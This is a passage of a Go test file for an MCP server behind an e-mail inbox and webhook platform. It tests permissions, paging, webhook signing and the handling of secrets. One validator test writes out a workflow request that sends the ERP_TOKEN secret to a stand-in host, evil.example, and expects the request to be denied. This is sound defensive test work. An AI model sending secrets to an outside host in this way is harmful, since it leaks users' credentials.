package inboxmcp_test

import (
	"context"
	"encoding/json"
	"errors"
	"maps"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/kobana/workflow/mcpserver/inbox"
	"github.com/kobana/workflow/mcpserver/inboxmcp"
	"github.com/kobana/workflow/mcpserver/internal/demo"
	"github.com/kobana/workflow/mcpserver/mcptest"
	"github.com/kobana/workflow/mcpserver/store"
)

func names(t *testing.T, cs *mcp.ClientSession) []string {
	t.Helper()
	res, err := cs.ListTools(context.Background(), nil)
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, tl := range res.Tools {
		out = append(out, tl.Name)
	}
	sort.Strings(out)
	return out
}

// snapshotTools are the tools a role sees, as its reviewed snapshot
// (testdata/snapshots, TestSnapshots) says.
func snapshotTools(t *testing.T, role string) string {
	t.Helper()
	l, err := mcptest.ReadListing(filepath.Join("testdata", "snapshots", role+".json"))
	if err != nil {
		t.Fatal(err)
	}
	return strings.Join(l.ToolNames(), " ")
}

// Every era and transport shows each role the tools of its snapshot, and a
// read-only token of an owner sees exactly what a viewer sees.
func TestToolSetsByRoleAndScope(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	readTools, ownerTools := snapshotTools(t, "viewer"), snapshotTools(t, "owner")
	for _, era := range eras {
		for _, who := range []string{"viewer", "owner-ro"} {
			cs := h.Connect(who, era, nil)
			if got := strings.Join(names(t, cs), " "); got != readTools {
				t.Errorf("%s %s tools:\n%s\nwant the viewer snapshot's\n%s", era, who, got, readTools)
			}
			r := h.Call(cs, "inboxes_create", map[string]any{"name": "X", "local_part": "x"})
			if !r.IsError || !strings.Contains(textOf(r), "permission_denied") {
				t.Errorf("%s %s inboxes_create: %s", era, who, textOf(r))
			}
		}
		if got := strings.Join(names(t, h.Connect("owner", era, nil)), " "); got != ownerTools {
			t.Errorf("%s owner tools:\n%s\nwant the owner snapshot's\n%s", era, got, ownerTools)
		}
	}
	if h.count(demo.Workspace, inbox.KindInbox, store.Query{}) != 2 {
		t.Fatal("a denied call created an inbox")
	}
}

func TestOtherWorkspaceIsInvisibleToTools(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	cs := h.Connect("sandbox", "2026-07-28", yes)
	for tool, args := range map[string]map[string]any{
		"emails_get":     {"id": "eml_inv_00"},
		"inboxes_get":    {"id": "ibx_invoices"},
		"webhooks_get":   {"id": "whk_chat"},
		"workspaces_get": {"id": "ws_finance"},
		"emails_delete":  {"id": "eml_inv_00"},
	} {
		r := h.Call(cs, tool, args)
		if !r.IsError || !strings.Contains(textOf(r), "not_found") {
			t.Errorf("sandbox %s %v: %s", tool, args, textOf(r))
		}
	}
	var list inboxmcp.EmailList
	structured(t, h.Call(cs, "emails_list", nil), &list)
	if len(list.Emails) != 0 {
		t.Errorf("sandbox sees %d e-mails", len(list.Emails))
	}
	if h.count(demo.Workspace, inbox.KindEmail, store.Query{Prefix: "eml_inv_00"}) != 1 {
		t.Fatal("the sandbox token deleted a Finance e-mail")
	}
}

func TestInboxLifecycle(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	cs := h.Connect("owner", "2026-07-28", yes)
	var ib inbox.Inbox
	r := h.Call(cs, "inboxes_create", map[string]any{"name": "Contracts", "local_part": "contracts", "agent_id": "agt_invoices", "recipients": []string{"Legal@Acme.example"}})
	structured(t, r, &ib)
	if r.IsError || ib.Address != "contracts@finance.in.kobana.email" || strings.Join(ib.Recipients, ",") != "legal@acme.example" {
		t.Fatalf("create: %s", textOf(r))
	}
	for args, code := range map[string]string{
		`{"name":"Dup","local_part":"contracts"}`:                "conflict",
		`{"name":"Bad","local_part":"Not Valid"}`:                "invalid_arguments",
		`{"name":"NoAgent","local_part":"y","agent_id":"agt_x"}`: "invalid_arguments",
		`{"name":"","local_part":"z"}`:                           "invalid_arguments",
	} {
		var a map[string]any
		json.Unmarshal([]byte(args), &a)
		if r := h.Call(cs, "inboxes_create", a); !r.IsError || !strings.Contains(textOf(r), code) {
			t.Errorf("create %s: %s, want %s", args, textOf(r), code)
		}
	}
	r = h.Call(cs, "inboxes_update", map[string]any{"id": ib.ID, "status": "paused", "attachment_rules": map[string]any{"required": true, "allowed_types": []string{"application/pdf"}}})
	structured(t, r, &ib)
	if ib.Status != "paused" || !ib.AttachmentRules.Required || ib.AgentID != "agt_invoices" {
		t.Errorf("update: %s", textOf(r))
	}
	structured(t, h.Call(cs, "inboxes_add_recipient", map[string]any{"id": ib.ID, "recipient": "@globex.example"}), &ib)
	structured(t, h.Call(cs, "inboxes_remove_recipient", map[string]any{"id": ib.ID, "recipient": "legal@acme.example"}), &ib)
	if strings.Join(ib.Recipients, ",") != "@globex.example" {
		t.Errorf("recipients = %v", ib.Recipients)
	}
	for _, bad := range []string{"not an address", " ana@acme.example", "ana@acme.example ", "@", "@localhost", "@.example", "a@b@c.example"} {
		if r := h.Call(cs, "inboxes_add_recipient", map[string]any{"id": ib.ID, "recipient": bad}); !strings.Contains(textOf(r), "invalid_arguments") {
			t.Errorf("bad recipient %q: %s", bad, textOf(r))
		}
	}
	// Rules that would match everything or nothing are refused.
	for _, rules := range []map[string]any{
		{"filters": map[string]any{"subject_contains": []string{"invoice", " "}}},
		{"attachment_rules": map[string]any{"allowed_types": []string{"pdf"}}},
		{"attachment_rules": map[string]any{"max_bytes": -1}},
	} {
		rules["id"] = ib.ID
		if r := h.Call(cs, "inboxes_update", rules); !strings.Contains(textOf(r), "invalid_arguments") {
			t.Errorf("rules %v: %s", rules, textOf(r))
		}
	}
	var events inboxmcp.EventList
	structured(t, h.Call(cs, "system_events_list", map[string]any{"type": "inbox.recipient_added", "limit": 5}), &events)
	if len(events.Events) == 0 || events.Events[0].Subject != ib.ID || events.Events[0].Actor != "person:"+demo.Owner {
		t.Errorf("events = %+v", events.Events)
	}
	if r := h.Call(cs, "inboxes_delete", map[string]any{"id": ib.ID}); r.IsError {
		t.Fatalf("delete: %s", textOf(r))
	}
	if r := h.Call(cs, "inboxes_get", map[string]any{"id": ib.ID}); !strings.Contains(textOf(r), "not_found") {
		t.Errorf("get after delete: %s", textOf(r))
	}
}

func TestListsFilterAndPage(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	cs := h.Connect("viewer", "2025-11-25", nil)
	var runs inboxmcp.AgentRunList
	structured(t, h.Call(cs, "agent_runs_list", map[string]any{"status": "failed", "agent_id": "agt_invoices", "limit": 100}), &runs)
	if len(runs.Runs) != 6 {
		t.Errorf("failed invoice runs = %d, want 6", len(runs.Runs))
	}
	seen := map[string]bool{}
	before := ""
	for page := 0; page < 10; page++ {
		var l inboxmcp.EmailList
		args := map[string]any{"limit": 7}
		if before != "" {
			args["cursor"] = before
		}
		structured(t, h.Call(cs, "emails_list", args), &l)
		for _, e := range l.Emails {
			if seen[e.ID] {
				t.Fatalf("e-mail %s on two pages", e.ID)
			}
			seen[e.ID] = true
		}
		if l.NextCursor == "" {
			break
		}
		before = l.NextCursor
	}
	if len(seen) != 25 {
		t.Errorf("paged through %d e-mails, want 25", len(seen))
	}
	// A cursor is opaque and belongs to its listing: altered, or used with
	// other filters or by another tool, it is refused.
	var first inboxmcp.EmailList
	structured(t, h.Call(cs, "emails_list", map[string]any{"limit": 2}), &first)
	for name, args := range map[string]map[string]any{
		"garbage":       {"cursor": "not-a-cursor"},
		"altered":       {"cursor": first.NextCursor[:len(first.NextCursor)-2] + "xx"},
		"other filters": {"cursor": first.NextCursor, "status": "failed"},
	} {
		if r := h.Call(cs, "emails_list", args); !r.IsError || !strings.HasPrefix(textOf(r), "invalid_arguments: cursor") {
			t.Errorf("%s cursor: %s", name, textOf(r))
		}
	}
	if r := h.Call(cs, "agents_list", map[string]any{"cursor": first.NextCursor}); !strings.HasPrefix(textOf(r), "invalid_arguments: cursor") {
		t.Errorf("another tool's cursor: %s", textOf(r))
	}
	var dl inboxmcp.DeliveryList
	structured(t, h.Call(cs, "webhooks_deliveries_list", map[string]any{"webhook_id": "whk_chat", "status": "failed"}), &dl)
	if len(dl.Deliveries) != 3 {
		t.Errorf("failed chat deliveries = %d", len(dl.Deliveries))
	}
	var byEmail inboxmcp.DeliveryList
	structured(t, h.Call(cs, "webhooks_deliveries_list", map[string]any{"email_id": "eml_inv_12"}), &byEmail)
	if len(byEmail.Deliveries) != 1 || byEmail.Deliveries[0].ID != "dlv_erp_02" {
		t.Errorf("deliveries of eml_inv_12 = %+v, want dlv_erp_02 only", byEmail.Deliveries)
	}
	if r := h.Call(cs, "agent_runs_list", map[string]any{"since": "yesterday"}); !strings.Contains(textOf(r), "invalid_arguments") {
		t.Errorf("bad since: %s", textOf(r))
	}
	if r := h.Call(cs, "emails_list", map[string]any{"limit": 1000}); !strings.Contains(textOf(r), "invalid_arguments") {
		t.Errorf("limit 1000: %s", textOf(r))
	}
	var u inbox.Usage
	structured(t, h.Call(cs, "usage_get", map[string]any{"month": "2026-11"}), &u)
	if u.AgentRuns == 0 || len(u.ByModel) != 2 || u.CostUSD <= 0 {
		t.Errorf("usage = %+v", u)
	}
	// By inbox: every run counted once, the costs adding up to the total.
	n, cost := 0, 0.0
	for _, ib := range u.ByInbox {
		n += ib.AgentRuns
		cost += ib.CostUSD
	}
	if len(u.ByInbox) != 2 || n != u.AgentRuns || inbox.RoundUSD(cost) != u.CostUSD || u.ByInbox[0].CostUSD < u.ByInbox[1].CostUSD {
		t.Errorf("usage by inbox = %+v (total %d runs, %v USD)", u.ByInbox, u.AgentRuns, u.CostUSD)
	}
}

// No tool output, resource or prompt ever carries a secret value.
func TestSecretsNeverLeave(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	ctx := context.Background()
	values, _ := h.st.RevealSecrets(ctx, demo.Workspace)
	cs := h.Connect("owner", "2026-07-28", yes)
	var out strings.Builder
	var sl inboxmcp.SecretList
	r := h.Call(cs, "secrets_list", nil)
	structured(t, r, &sl)
	var got []string
	for _, s := range sl.Secrets {
		got = append(got, s.Name)
	}
	if strings.Join(got, ",") != "CHAT_WEBHOOK_URL,ERP_TOKEN" {
		t.Errorf("secrets_list = %v (internal webhook secrets must not be listed)", got)
	}
	out.WriteString(textOf(r))
	set := h.Call(cs, "secrets_set", map[string]any{"name": "NEW_KEY", "value": "v3ry-s3cret-value"})
	out.WriteString(textOf(set))
	if r := h.Call(cs, "secrets_set", map[string]any{"name": "kobana:webhook:whk_chat", "value": "x"}); !r.IsError {
		t.Error("secrets_set may overwrite an internal secret")
	}
	values["NEW_KEY"] = "v3ry-s3cret-value"
	for _, tool := range []string{"webhooks_list", "system_events_list", "agent_runs_list", "workflow_runs_list", "agents_list", "usage_get", "workspaces_get", "inboxes_list"} {
		out.WriteString(textOf(h.Call(cs, tool, nil)))
	}
	for _, id := range []string{"wrun_inv_00", "wrun_inv_01"} {
		out.WriteString(textOf(h.Call(cs, "workflow_runs_get", map[string]any{"id": id})))
	}
	for _, p := range []string{"webhook_health", "review_failed_runs", "usage_report"} {
		res, err := cs.GetPrompt(ctx, &mcp.GetPromptParams{Name: p})
		if err != nil {
			t.Fatal(err)
		}
		b, _ := json.Marshal(res)
		out.Write(b)
	}
	for name, v := range values {
		if name == inbox.DestinationsSecretName("ERP_TOKEN") {
			continue // the hosts a secret may go to are shown by secrets_list, by design
		}
		if strings.Contains(out.String(), v) {
			t.Errorf("secret %s's value reached a client", name)
		}
	}
	if !strings.Contains(out.String(), "[redacted secrets.ERP_TOKEN]") {
		t.Error("workflow runs should show the redacted reference")
	}
	// Rotating returns the new secret once; reading the webhook never does.
	var ws inboxmcp.WebhookSecret
	structured(t, h.Call(cs, "webhooks_rotate_secret", map[string]any{"id": "whk_erp"}), &ws)
	after, _ := h.st.RevealSecrets(ctx, demo.Workspace)
	if ws.Secret == "" || after["kobana:webhook:whk_erp"] != ws.Secret || strings.Contains(textOf(h.Call(cs, "webhooks_get", map[string]any{"id": "whk_erp"})), ws.Secret) {
		t.Errorf("rotation: %+v", ws)
	}
	if r := h.Call(cs, "secrets_delete", map[string]any{"name": "NEW_KEY"}); r.IsError {
		t.Errorf("secrets_delete: %s", textOf(r))
	}
}

// DeliveryListOut is webhooks_deliveries_list's result, as a client reads it.
type DeliveryListOut struct {
	Deliveries []inbox.Delivery `json:"deliveries"`
}

func TestWebhookCreateTestReplay(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	cs := h.Connect("owner", "2026-07-28", yes)
	var created inboxmcp.WebhookSecret
	structured(t, h.Call(cs, "webhooks_create", map[string]any{"url": h.recv.srv.URL + "/new", "events": []string{"email.failed"}}), &created)
	if !strings.HasPrefix(created.Secret, "whsec_") || created.Webhook.Status != "active" {
		t.Fatalf("create: %+v", created)
	}
	for _, bad := range []map[string]any{
		{"url": "ftp://x.example/", "events": []string{"email.failed"}},
		{"url": "https://user:pw@x.example/", "events": []string{"email.failed"}},
		{"url": "https://x.example/", "events": []string{"email.exploded"}},
	} {
		if r := h.Call(cs, "webhooks_create", bad); !strings.Contains(textOf(r), "invalid_arguments") {
			t.Errorf("create %v: %s", bad, textOf(r))
		}
	}
	var d inbox.Delivery
	structured(t, h.Call(cs, "webhooks_test", map[string]any{"id": created.Webhook.ID}), &d)
	if d.Status != "delivered" || d.HTTPStatus != 200 {
		t.Fatalf("test delivery: %+v", d)
	}
	// A replay is one more attempt of the same delivery: the receiver gets
	// the delivery's own id (it deduplicates on it), marked as a replay;
	// the attempt is recorded as the person's, and its success clears the
	// earlier attempt's error (before, a replay was a second delivery with
	// an id of its own, and the original kept its error).
	var before inbox.Delivery
	var list DeliveryListOut
	structured(t, h.Call(cs, "webhooks_deliveries_list", map[string]any{"webhook_id": "whk_chat"}), &list)
	for _, d := range list.Deliveries {
		if d.ID == "dlv_chat_03" {
			before = d
		}
	}
	if before.Error == "" || before.Status != "failed" {
		t.Fatalf("dlv_chat_03 before the replay: %+v, want a failed delivery with its error", before)
	}
	var replay inbox.Delivery
	structured(t, h.Call(cs, "webhooks_deliveries_replay", map[string]any{"delivery_id": "dlv_chat_03"}), &replay)
	last := replay.Attempts[len(replay.Attempts)-1]
	if replay.ID != "dlv_chat_03" || replay.Status != "delivered" || replay.Error != "" || len(replay.Attempts) != len(before.Attempts)+1 ||
		!last.Replay || last.RequestedBy != "per_ana" || last.Status != "delivered" || !replay.NextAttemptAt.IsZero() {
		t.Fatalf("replay: %+v", replay)
	}
	got := h.recv.reqs[len(h.recv.reqs)-1]
	if got.header.Get("X-Kobana-Replay-Of") != "dlv_chat_03" || got.header.Get("X-Kobana-Delivery") != "dlv_chat_03" ||
		!strings.Contains(string(got.body), `"id":"dlv_chat_03"`) || !strings.Contains(string(got.body), `"agent_run_id":"arun_inv_23"`) {
		t.Errorf("replayed request %v %s", got.header, got.body)
	}
	// A successful delivery heals a failing webhook.
	var wh inbox.Webhook
	structured(t, h.Call(cs, "webhooks_get", map[string]any{"id": "whk_chat"}), &wh)
	if wh.Status != "active" || !wh.FailingSince.IsZero() {
		t.Errorf("webhook after a good delivery: %+v", wh)
	}
}

func TestWorkflowsValidate(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	cs := h.Connect("viewer", "2025-11-25", nil)
	var v inboxmcp.Validation
	structured(t, h.Call(cs, "workflows_validate", map[string]any{"document": `{"result":{}}`}), &v)
	if !v.OK {
		t.Errorf("valid document: %+v", v)
	}
	// The platform's linter: codes, pointers, positions — a key written
	// twice is an error, as when the document runs.
	for doc, code := range map[string]string{
		`{"result":`: "json-syntax",
		`{"result":{},"workflow":[{"type":"request","url":"https://x.example/"}],"workflow":[]}`: "json-duplicate-key",
	} {
		v = inboxmcp.Validation{}
		structured(t, h.Call(cs, "workflows_validate", map[string]any{"document": doc}), &v)
		var ds []struct {
			Code     string
			Severity string
			Range    struct{ Start struct{ Line, Column int } }
		}
		if err := json.Unmarshal(v.Diagnostics, &ds); err != nil || v.OK || len(ds) == 0 || ds[0].Code != code || ds[0].Severity != "error" || ds[0].Range.Start.Line != 1 {
			t.Errorf("%s: %+v %s (%v)", doc, v.OK, v.Diagnostics, err)
		}
	}
}

// Records created in the same instant (the test clock is frozen) page
// without loss or repetition.
func TestPagingWithEqualTimestamps(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	cs := h.Connect("owner", "2026-07-28", nil)
	for _, lp := range []string{"a", "b", "c", "d", "e"} {
		if r := h.Call(cs, "inboxes_create", map[string]any{"name": lp, "local_part": lp}); r.IsError {
			t.Fatal(textOf(r))
		}
	}
	seen := map[string]bool{}
	before := ""
	for range 20 {
		args := map[string]any{"type": "inbox.created", "limit": 2}
		if before != "" {
			args["cursor"] = before
		}
		var page inboxmcp.EventList
		structured(t, h.Call(cs, "system_events_list", args), &page)
		for _, e := range page.Events {
			if seen[e.ID] {
				t.Fatalf("event %s on two pages", e.ID)
			}
			seen[e.ID] = true
		}
		if page.NextCursor == "" {
			break
		}
		before = page.NextCursor
	}
	if len(seen) != 7 {
		t.Errorf("paged %d inbox.created events, want 7", len(seen))
	}
}

func TestPlanLimits(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	cs := h.Connect("sandbox", "2026-07-28", nil) // the sandbox plan: 1 inbox, 1 agent, 1 webhook
	if r := h.Call(cs, "inboxes_create", map[string]any{"name": "Two", "local_part": "two"}); !strings.Contains(textOf(r), "limit_reached") {
		t.Errorf("second inbox: %s", textOf(r))
	}
	if r := h.Call(cs, "agents_create", map[string]any{"name": "A", "model": "gpt-4.1-mini", "system_message": "x"}); r.IsError {
		t.Fatalf("first agent: %s", textOf(r))
	}
	if r := h.Call(cs, "agents_create", map[string]any{"name": "B", "model": "gpt-4.1-mini", "system_message": "x"}); !strings.Contains(textOf(r), "limit_reached") {
		t.Errorf("second agent: %s", textOf(r))
	}
	if r := h.Call(cs, "webhooks_create", map[string]any{"url": "https://a.example/h", "events": []string{"email.failed"}}); r.IsError {
		t.Fatalf("first webhook: %s", textOf(r))
	}
	if r := h.Call(cs, "webhooks_create", map[string]any{"url": "https://b.example/h", "events": []string{"email.failed"}}); !strings.Contains(textOf(r), "limit_reached") {
		t.Errorf("second webhook: %s", textOf(r))
	}
	if r := h.Call(cs, "agents_create", map[string]any{"name": "C", "model": "gpt-5-ultra", "system_message": "x"}); !strings.HasPrefix(textOf(r), "invalid_arguments: ") || !strings.Contains(textOf(r), "gpt-5-ultra") {
		t.Errorf("unknown model: %s", textOf(r))
	}
}

// Retention is the workspace's own setting, after the user's yes: within
// the plan's limit (refused above it before anyone is asked), shown by
// workspaces_get with the days in force, recorded in the event log; 0 goes
// back to the plan's.
func TestWorkspaceRetentionIsSetByItsOwner(t *testing.T) {
	h := newHarness(t)
	cs := h.Connect("owner", "2026-07-28", yes)
	r := h.RawCall("owner", "workspaces_set_retention", map[string]any{"days": 91}, formCaps, "", nil)
	if inputRequired(r) || !strings.Contains(resultText(r), `"limit_reached: `) || !strings.Contains(resultText(r), "90 days") {
		t.Fatalf("91 days on a plan of 90: %v", r)
	}
	got := func() inbox.Workspace {
		t.Helper()
		r := h.Call(cs, "workspaces_get", map[string]any{})
		if r.IsError {
			t.Fatal(textOf(r))
		}
		var w inbox.Workspace
		structured(t, r, &w)
		return w
	}
	if w := got(); w.RetentionDays != 0 || w.Retention() != 90 {
		t.Fatalf("before: retention_days %d, in force %d", w.RetentionDays, w.Retention())
	}
	if r := h.Call(cs, "workspaces_set_retention", map[string]any{"days": 14}); r.IsError {
		t.Fatal(textOf(r))
	}
	if w := got(); w.RetentionDays != 14 || w.Retention() != 14 || w.Limits.RetentionDays != 90 {
		t.Errorf("after 14: %+v", w)
	}
	evs, err := inbox.NewRepo(h.st).Events.All(context.Background(), demo.Workspace, store.Query{})
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, ev := range evs {
		if ev.Type == inbox.EventWorkspaceRetentionSet && strings.Contains(string(ev.Payload), `"effective_days":14`) && strings.HasPrefix(ev.Actor, "person:") {
			found = true
		}
	}
	if !found {
		t.Error("no workspace.retention_set event with the new days and who set them")
	}
	if r := h.Call(cs, "workspaces_set_retention", map[string]any{"days": 0}); r.IsError {
		t.Fatal(textOf(r))
	}
	if w := got(); w.RetentionDays != 0 || w.Retention() != 90 {
		t.Errorf("after 0: %+v", w)
	}
	viewer := h.Connect("viewer", "2026-07-28", yes)
	if r := h.Call(viewer, "workspaces_set_retention", map[string]any{"days": 7}); !r.IsError {
		t.Error("a viewer set the retention")
	}
}

// Deleting an e-mail deletes its raw message where the product keeps it
// (Options.Messages), after the user's yes.
func TestEmailDeleteRemovesTheRawMessage(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	cs := h.Connect("owner", "2026-07-28", yes)
	if r := h.Call(cs, "emails_delete", map[string]any{"id": "eml_rcp_01"}); r.IsError {
		t.Fatal(textOf(r))
	}
	if _, err := h.st.GetBlob(context.Background(), demo.Workspace, "eml_rcp_01"); !errors.Is(err, store.ErrNotFound) {
		t.Fatalf("raw message after the delete: %v", err)
	}
	if r := h.Call(cs, "emails_get", map[string]any{"id": "eml_rcp_01"}); !strings.HasPrefix(textOf(r), "not_found: ") {
		t.Fatalf("e-mail after the delete: %s", textOf(r))
	}
}

// Rotating a signing secret keeps the previous one signing beside the new
// for the overlap (two v1 in x-kobana-signature, as Stripe's rolling does),
// so a receiver can switch without refusing a delivery; an overlap of 0
// stops the previous secret at once. email.rejected can be subscribed to.
func TestWebhookSecretRotationOverlap(t *testing.T) {
	h := newHarness(t)
	cs := h.Connect("owner", "2026-07-28", yes)
	var created inboxmcp.WebhookSecret
	structured(t, h.Call(cs, "webhooks_create", map[string]any{"url": h.recv.srv.URL + "/rotating", "events": []string{"email.rejected"}}), &created)
	if created.Secret == "" || len(created.Webhook.Events) != 1 || created.Webhook.Events[0] != "email.rejected" {
		t.Fatalf("a webhook of email.rejected: %+v", created)
	}
	id := created.Webhook.ID
	sent := func() (sig string, body []byte, at time.Time) {
		t.Helper()
		var d inbox.Delivery
		structured(t, h.Call(cs, "webhooks_test", map[string]any{"id": id}), &d)
		got := h.recv.reqs[len(h.recv.reqs)-1]
		return got.header.Get(inbox.HeaderSignature), got.body, d.AttemptedAt
	}
	var rotated inboxmcp.WebhookSecret
	structured(t, h.Call(cs, "webhooks_rotate_secret", map[string]any{"id": id, "overlap_hours": 2}), &rotated)
	if rotated.Secret == created.Secret || !rotated.Webhook.PreviousSecretUntil.Equal(demoNow.Add(2*time.Hour)) {
		t.Fatalf("rotated: %+v", rotated.Webhook)
	}
	sig, body, at := sent()
	if strings.Count(sig, "v1=") != 2 {
		t.Errorf("during the overlap the signature is %q, want two v1", sig)
	}
	for name, secret := range map[string]string{"new": rotated.Secret, "previous": created.Secret} {
		if err := inbox.VerifySignature(secret, sig, body, at, 5*time.Minute); err != nil {
			t.Errorf("during the overlap the %s secret does not verify: %v", name, err)
		}
	}
	var third inboxmcp.WebhookSecret
	structured(t, h.Call(cs, "webhooks_rotate_secret", map[string]any{"id": id, "overlap_hours": 0}), &third)
	sig, body, at = sent()
	if strings.Count(sig, "v1=") != 1 || inbox.VerifySignature(third.Secret, sig, body, at, 5*time.Minute) != nil ||
		inbox.VerifySignature(rotated.Secret, sig, body, at, 5*time.Minute) == nil || !third.Webhook.PreviousSecretUntil.IsZero() {
		t.Errorf("after a rotation without overlap: signature %q, webhook %+v", sig, third.Webhook)
	}
}

// TestSecretDestinations: secrets_set binds a secret to the hosts it may
// be sent to; a URL secret is bound to its own host; re-setting a value
// keeps the destinations; deleting the secret deletes them, so a new
// secret of the same name starts unbound.
func TestSecretDestinations(t *testing.T) {
	t.Parallel()
	// The demo binds ERP_TOKEN to the ERP, and its chat webhook URL is
	// bound to its own host.
	{
		h := newHarness(t)
		cs := h.Connect("owner", "2025-11-25", nil)
		var sl inboxmcp.SecretList
		structured(t, h.Call(cs, "secrets_list", nil), &sl)
		got := map[string]string{}
		for _, s := range sl.Secrets {
			got[s.Name] = strings.Join(s.Destinations, " ") + " by " + s.BoundBy
		}
		if got["ERP_TOKEN"] != "erp.example.com by secrets_set" || got["CHAT_WEBHOOK_URL"] != "chat.example.com by url" {
			t.Errorf("the demo's secrets: %v", got)
		}
	}
	h := newHarness(t)
	cs := h.Connect("owner", "2025-11-25", nil)
	list := func() map[string]inboxmcp.SecretName {
		var sl inboxmcp.SecretList
		structured(t, h.Call(cs, "secrets_list", nil), &sl)
		out := map[string]inboxmcp.SecretName{}
		for _, s := range sl.Secrets {
			out[s.Name] = s
		}
		return out
	}
	var sn inboxmcp.SecretName
	r := h.Call(cs, "secrets_set", map[string]any{"name": "PAY_TOKEN", "value": "pay-0123456789", "destinations": []string{"Pay.Example.com", "*.pay.example.com:8443"}})
	structured(t, r, &sn)
	if r.IsError || strings.Join(sn.Destinations, " ") != "pay.example.com *.pay.example.com:8443" || sn.BoundBy != "secrets_set" {
		t.Fatalf("secrets_set: %s %+v", textOf(r), sn)
	}
	h.Call(cs, "secrets_set", map[string]any{"name": "HOOK_URL", "value": "https://hooks.example.net/T1/B2/c3"})
	h.Call(cs, "secrets_set", map[string]any{"name": "PLAIN", "value": "just-a-value"})
	got := list()
	if s := got["HOOK_URL"]; strings.Join(s.Destinations, " ") != "hooks.example.net" || s.BoundBy != "url" {
		t.Errorf("a URL secret: %+v", s)
	}
	if s := got["PLAIN"]; s.Destinations != nil || s.BoundBy != "" {
		t.Errorf("an unbound secret: %+v", s)
	}
	// A new value keeps the destinations.
	h.Call(cs, "secrets_set", map[string]any{"name": "PAY_TOKEN", "value": "pay-rotated-99"})
	if s := list()["PAY_TOKEN"]; strings.Join(s.Destinations, " ") != "pay.example.com *.pay.example.com:8443" {
		t.Errorf("after a new value: %+v", s)
	}
	for want, args := range map[string]map[string]any{
		`destination "https://pay.example.com"`: {"name": "PAY_TOKEN", "value": "x", "destinations": []string{"https://pay.example.com"}},
		"destinations is empty":                 {"name": "PAY_TOKEN", "value": "x", "destinations": []string{}},
	} {
		if r := h.Call(cs, "secrets_set", args); !r.IsError || !strings.Contains(textOf(r), want) {
			t.Errorf("secrets_set %v: %s", args, textOf(r))
		}
	}
	if s := list()["PAY_TOKEN"]; strings.Join(s.Destinations, " ") != "pay.example.com *.pay.example.com:8443" {
		t.Errorf("a refused secrets_set changed the destinations: %+v", s)
	}
	// Destinations alone, for a secret set before they existed.
	r = h.Call(cs, "secrets_set", map[string]any{"name": "PLAIN", "destinations": []string{"plain.example"}})
	all, _ := h.st.RevealSecrets(context.Background(), demo.Workspace)
	if s := list()["PLAIN"]; r.IsError || strings.Join(s.Destinations, " ") != "plain.example" || all["PLAIN"] != "just-a-value" {
		t.Errorf("destinations alone: %s %+v (value %q)", textOf(r), s, all["PLAIN"])
	}
	if r := h.Call(cs, "secrets_set", map[string]any{"name": "NOPE", "destinations": []string{"a.example"}}); !r.IsError || !strings.Contains(textOf(r), "value is required") {
		t.Errorf("destinations alone for a secret that does not exist: %s", textOf(r))
	}
	yesCS := h.Connect("owner", "2026-07-28", yes)
	if r := h.Call(yesCS, "secrets_delete", map[string]any{"name": "PAY_TOKEN"}); r.IsError {
		t.Fatalf("secrets_delete: %s", textOf(r))
	}
	all, _ = h.st.RevealSecrets(context.Background(), demo.Workspace)
	if _, left := all[inbox.DestinationsSecretName("PAY_TOKEN")]; left {
		t.Error("the destinations outlived their secret")
	}
	h.Call(cs, "secrets_set", map[string]any{"name": "PAY_TOKEN", "value": "new-one-1234"})
	if s := list()["PAY_TOKEN"]; s.Destinations != nil {
		t.Errorf("a new secret inherited destinations: %+v", s)
	}
}

// TestValidateWithTheWorkspace: workflows_validate lints with the
// workspace's secret names and destinations, and with an agent's egress
// list when asked as that agent's answer — what the agent's repair rounds
// are told.
func TestValidateWithTheWorkspace(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	cs := h.Connect("owner", "2025-11-25", nil)
	codes := func(args map[string]any) []string {
		t.Helper()
		var v inboxmcp.Validation
		structured(t, h.Call(cs, "workflows_validate", args), &v)
		var ds []struct{ Code string }
		json.Unmarshal(v.Diagnostics, &ds)
		var out []string
		for _, d := range ds {
			out = append(out, d.Code)
		}
		return out
	}
	doc := `{"result": 1, "workflow": [{"type": "request", "url": "https://evil.example/x", "body": {"t": "${{secrets.ERP_TOKEN}}", "u": "${{secrets.ERP_TOKN}}"}}]}`
	if got := codes(map[string]any{"document": doc}); strings.Join(got, " ") != "secret-destination-denied secrets-unknown-name" {
		t.Errorf("codes %v", got)
	}
	var a inbox.Agent
	structured(t, h.Call(cs, "agents_create", map[string]any{"name": "R", "model": "claude-haiku-4-5", "system_message": "x", "settings": map[string]any{"egress": []string{"erp.example.com"}}}), &a)
	plain := `{"result": 1, "workflow": [{"type": "request", "url": "https://evil.example/x", "body": "hi"}]}`
	if got := codes(map[string]any{"document": plain, "agent_id": a.ID}); strings.Join(got, " ") != "egress-denied" {
		t.Errorf("as the agent's answer: %v", got)
	}
	if got := codes(map[string]any{"document": plain}); got != nil {
		t.Errorf("without an agent: %v", got)
	}
}

// A duplicate the intake recorded (another copy of an e-mail the inbox had
// received) shows in listings, filtered by its status, with the e-mail it
// copies; emails_get says how the copies matched.
func TestDuplicatesAreListedWithTheirOriginal(t *testing.T) {
	h := newHarness(t)
	ctx := context.Background()
	repo := inbox.NewRepo(h.st)
	first, err := repo.Emails.Get(ctx, demo.Workspace, "eml_inv_00")
	if err != nil {
		t.Fatal(err)
	}
	dup := first
	dup.ID, dup.AgentRunID, dup.WorkflowRunID = "eml_dup_001", "", ""
	dup.ReceivedAt = first.ReceivedAt.Add(time.Minute)
	dup.MarkDuplicate(first.ID, "another copy of "+first.ID+": the same Message-ID and the same bytes")
	if err := repo.Emails.Create(ctx, demo.Workspace, dup); err != nil {
		t.Fatal(err)
	}
	cs := h.Connect("owner", "2026-07-28", yes)
